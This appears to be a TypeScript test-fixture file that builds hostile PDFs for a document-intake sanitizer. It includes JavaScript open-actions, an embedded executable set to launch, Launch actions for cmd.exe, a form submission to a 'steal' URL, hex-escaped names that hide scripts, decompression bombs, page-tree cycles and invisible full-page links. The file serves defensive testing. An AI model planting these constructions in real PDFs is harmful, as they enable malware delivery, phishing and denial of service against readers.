import { constants, deflateRawSync, deflateSync } from "node:zlib";
import { type PDFDict, PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";
import { showStream } from "./scanned-pdfs.ts";
import { a4, latin1, writtenDocument } from "./written-pdfs.ts";

/** Papers that mean harm. */

export const author = "Ngo Bassong";

/** All that intake must take out, in one paper of two pages. */
export const pdfWithAllThreats = async (): Promise<Uint8Array> => {
  const doc = await writtenDocument(2);
  const { context, catalog } = doc;
  const obj = (literal: object) => context.obj(literal as Record<string, never>);
  const ref = (literal: object) => context.register(obj(literal));
  const set = (dict: PDFDict, entries: object) => {
    for (const [key, value] of obj(entries).entries()) dict.set(key, value);
  };
  const script = { Type: "Action", S: "JavaScript", JS: PDFString.of("app.alert('x')") };
  await doc.attach(latin1("attached"), "answers.exe", { mimeType: "application/octet-stream" });
  doc.addJavaScript("run", "this.exportDataObject({ cName: 'answers.exe', nLaunch: 2 });");
  doc.setTitle("Paper");
  doc.setAuthor(author);
  const xmp = context.register(context.stream(`<x:xmpmeta>${author}</x:xmpmeta>`, { Type: "Metadata" }));
  set(catalog, { OpenAction: ref(script), AA: { WC: ref(script) }, Metadata: xmp, Collection: { View: "D" } });
  const box = { Type: "Annot", Rect: [10, 10, 60, 30] };
  const link = (action: object) => ref({ ...box, Subtype: "Link", A: action });
  const Annots = [
    link({ S: "URI", URI: PDFString.of("https://example.org/paper") }),
    link(script),
    link({ S: "Launch", F: PDFString.of("cmd.exe") }),
    link({ S: "GoToR", F: PDFString.of("other.pdf"), D: [0, "Fit"] }),
    link({ S: "SubmitForm", F: PDFString.of("https://example.org/steal") }),
    link({ S: "ImportData", F: PDFString.of("x.fdf") }),
    link({ S: "Rendition", OP: 0, JS: PDFString.of("x") }),
    link({ S: "URI", URI: PDFString.of("javascript:alert(1)") }),
    link({ S: "GoTo", D: [doc.getPage(1).ref, "Fit"], Next: ref(script) }),
    ref({ ...box, Subtype: "RichMedia", RichMediaContent: { Assets: ref({}) } }),
    ref({ ...box, Subtype: "FileAttachment", FS: { EF: { F: ref({}) } } }),
    ref({ ...box, Subtype: "Text", T: PDFString.of(author), Contents: PDFString.of("see 2") }),
  ];
  const PieceInfo = { Word: { Private: PDFString.of(author) } };
  set(doc.getPage(0).node, { Annots, AA: { O: ref(script) }, PieceInfo });
  const field = doc.getForm().createTextField("mark");
  field.addToPage(doc.getPage(1), { x: 50, y: 20, width: 80, height: 20 });
  set(field.acroField.dict, { AA: { K: ref(script) } });
  set(doc.getForm().acroForm.dict, { XFA: context.register(context.stream("<xdp/>")) });
  context.register(context.stream("an orphan that nothing shows", { Secret: author }));
  return doc.save({ useObjectStreams: false, updateFieldAppearances: false });
};

/** Names with #xx in them, in both cases of the digits, which a reader takes for the plain ones. */
export const pdfWithEscapedNames = async (): Promise<Uint8Array> => {
  const plain = Buffer.from(await (await writtenDocument(1)).save({ useObjectStreams: false })).toString("latin1");
  const attack =
    "/Open#41ction << /S /#4aava#53cript /J#53 (app.alert\\(1\\)) >> /#41A << /WC << /S /L#61unch /F (cmd) >> >>";
  return latin1(plain.replace("/Type /Catalog", `/Type /Catalog ${attack}`));
};

const zeros = deflateRawSync(Buffer.alloc(1_000_000), { finishFlush: constants.Z_FULL_FLUSH });

const inflatesTo = (megabytes: number): Uint8Array => {
  const blocks = Array.from({ length: megabytes }, () => zeros);
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...blocks, deflateRawSync(Buffer.alloc(0))]);
};

/** A black picture of 20,000 × 20,000 greys: 400 MB out of some 400 kB. */
export const pictureBomb = async (): Promise<Uint8Array> => {
  const doc = await PDFDocument.create();
  const dict = { Width: 20_000, Height: 20_000, BitsPerComponent: 8, ColorSpace: "DeviceGray", Filter: "FlateDecode" };
  showStream(doc, doc.addPage(a4), inflatesTo(400), dict);
  return doc.save();
};

/** A page whose drawing commands are 2 GB of spaces' worth of zeros. */
export const contentBomb = async (): Promise<Uint8Array> => {
  const doc = await PDFDocument.create();
  const contents = doc.context.stream(inflatesTo(2000), { Filter: "FlateDecode" });
  doc.addPage(a4).node.set(PDFName.of("Contents"), doc.context.register(contents));
  return doc.save();
};

/** Pages that each draw what one of these streams says; `dict` names its filters. */
const drawing = async (pages: readonly Uint8Array[], dict: object = { Filter: "FlateDecode" }): Promise<Uint8Array> => {
  const doc = await PDFDocument.create();
  for (const data of pages) {
    const contents = doc.context.stream(data, dict as Record<string, never>);
    doc.addPage(a4).node.set(PDFName.of("Contents"), doc.context.register(contents));
  }
  return doc.save();
};

const commands = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1_000_000, "0 0 m 9 9 l S\n");

/** One page of 150 MB of commands, in some 150 kB. */
export const commandBomb = (): Promise<Uint8Array> => drawing([deflateSync(commands(150))]);

/** The same, deflated twice: some kB. */
export const doubleBomb = (): Promise<Uint8Array> =>
  drawing([deflateSync(deflateSync(commands(150)))], { Filter: ["FlateDecode", "FlateDecode"] });

/** The same, with an end that is no zlib's: readers take what comes before it. */
export const brokenBomb = (): Promise<Uint8Array> => {
  const whole = deflateSync(commands(150));
  whole.fill(0xff, whole.length - 16);
  return drawing([whole]);
};

/** Twenty pages of 20 MB of commands: each within the limit of a stream. */
export const manyBombs = (): Promise<Uint8Array> => {
  const one = deflateSync(commands(20));
  return drawing(Array.from({ length: 20 }, () => one));
};

/** A page of so many MB of commands. */
export const longDrawing = (megabytes: number): Promise<Uint8Array> => drawing([deflateSync(commands(megabytes))]);

/** A page that paints a large area thousands of times over, each time through a soft blend. */
export const slow = async (strokes: number): Promise<Uint8Array> => {
  const doc = await PDFDocument.create();
  const sheet = doc.addPage(a4);
  const state = doc.context.obj({ BM: "Luminosity", ca: 0.5 });
  const name = sheet.node.newExtGState("G", doc.context.register(state));
  const one = `/${name.decodeText()} gs 0.3 0.6 0.9 rg 0 0 595 842 re f\n`;
  const contents = deflateSync(latin1(one.repeat(strokes)));
  sheet.node.set(PDFName.of("Contents"), doc.context.register(doc.context.stream(contents, { Filter: "FlateDecode" })));
  return doc.save();
};

const assembled = (objects: readonly string[]): Uint8Array => {
  let text = "%PDF-1.4\n";
  const offsets = objects.map((body, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
  return latin1(
    `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
  );
};

export const pageTreeCycle = (): Uint8Array =>
  assembled(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 1 /Kids [2 0 R] >>"]);

export const deepNesting = (): Uint8Array =>
  assembled([
    "<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>",
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>",
    "[".repeat(200_000),
  ]);

export const withBox = (box: string): Uint8Array =>
  assembled([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] >>`,
  ]);

export const manyObjects = (count: number): Uint8Array =>
  assembled([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>",
    ...Array.from({ length: count - 3 }, () => "null"),
  ]);

/** A paper of one page with an annotation of each kind, all over the page, invisible and leading elsewhere. */
export const annotated = async (kinds: readonly string[]): Promise<Uint8Array> => {
  const doc = await writtenDocument(1);
  const { context } = doc;
  const A = { S: "URI", URI: PDFString.of("https://example.org/steal") };
  const all = kinds.map((Subtype) =>
    context.register(
      context.obj({
        Type: "Annot",
        Subtype,
        Rect: [0, 0, 595, 842],
        Border: [0, 0, 0],
        A,
        ...(Subtype === "Widget" && { FT: "Tx", T: PDFString.of("mark") }),
      }),
    ),
  );
  doc.getPage(0).node.set(PDFName.of("Annots"), context.obj(all));
  return doc.save({ useObjectStreams: false });
};
